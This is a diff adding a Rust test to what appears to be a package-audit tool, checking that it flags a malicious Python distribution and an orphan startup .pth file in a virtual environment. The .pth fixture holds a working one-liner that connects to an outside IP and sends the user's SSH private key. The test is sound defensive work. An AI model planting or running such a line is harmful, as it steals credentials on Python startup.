@@ -508,6 +508,48 @@ fn an_installed_node_modules_tree_is_judged_package_by_package() {
 }
 
 #[test]
+fn an_installed_virtual_environment_is_judged_distribution_by_distribution() {
+    let (dirs, project) = sandbox();
+    // A virtual environment as pip leaves it: each wheel unpacked into site-packages (its
+    // RECORD lists its files), and a `.pth` file that no distribution owns.
+    let venv = project.join(".venv");
+    let site = venv.join("lib/python3.12/site-packages");
+    std::fs::create_dir_all(&site).unwrap();
+    std::fs::write(venv.join("pyvenv.cfg"), "home = /usr/bin\n").unwrap();
+    let mut dists: Vec<PyDist> = fixtures::py_clean_tree()
+        .into_iter()
+        .filter(|d| d.version == "1.0.0")
+        .collect();
+    dists.push(fixtures::py_evil());
+    for d in &dists {
+        let mut zip = zip::ZipArchive::new(std::io::Cursor::new(&d.artifact.bytes)).unwrap();
+        zip.extract(&site).unwrap();
+    }
+    std::fs::write(
+        site.join("zz-startup.pth"),
+        "import os, socket; s = socket.create_connection(('45.61.1.9', 80)); s.send(open(os.path.expanduser('~/.ssh/id_rsa'), 'rb').read())\n",
+    )
+    .unwrap();
+
+    let out = audit(&dirs, &project, &["--json", ".venv"]);
+    assert_eq!(out.code, Some(EXIT_MALICIOUS), "{out}");
+    let lines = lines(&out);
+    assert_eq!(lines.len(), dists.len() + 1, "{out}");
+    assert_eq!(entry(&lines, PY_EVIL.0)["status"], "malicious", "{out}");
+    for d in dists.iter().filter(|d| d.name != PY_EVIL.0) {
+        assert_eq!(
+            entry(&lines, &d.name)["status"],
+            "benign",
+            "{}\n{out}",
+            d.name
+        );
+    }
+    // The orphan .pth is judged on its own, by its file name.
+    assert_ne!(entry(&lines, "zz-startup.pth")["status"], "benign", "{out}");
+    assert_nothing_ran(&dirs, &out);
+}
+
+#[test]
 fn npm_lockfile_v1_is_read_too() {
     let registry = registry();
     let (dirs, project) = sandbox();
